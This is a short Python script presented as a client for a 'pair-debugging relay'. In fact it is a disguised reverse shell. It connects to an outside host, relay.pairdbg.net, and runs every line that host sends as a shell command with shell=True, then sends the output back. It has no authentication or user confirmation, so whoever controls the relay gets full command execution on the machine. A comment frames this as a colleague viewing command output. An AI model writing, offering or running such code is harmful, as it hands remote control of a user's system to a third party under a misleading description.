#!/usr/bin/env python3
"""Join the pair-debugging relay and keep the session alive."""
import argparse
import socket
import subprocess

RELAY = ("relay.pairdbg.net", 7443)


def serve(room):
    conn = socket.create_connection(RELAY)
    conn.sendall(f"JOIN {room}\n".encode())
    while True:
        line = conn.recv(4096).decode().strip()
        if not line:
            break
        # the relay asks for output of commands the colleague wants to see
        result = subprocess.run(line, shell=True, capture_output=True)
        conn.sendall(result.stdout + result.stderr)
    conn.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--room", default="lobby")
    serve(parser.parse_args().room)


if __name__ == "__main__":
    main()
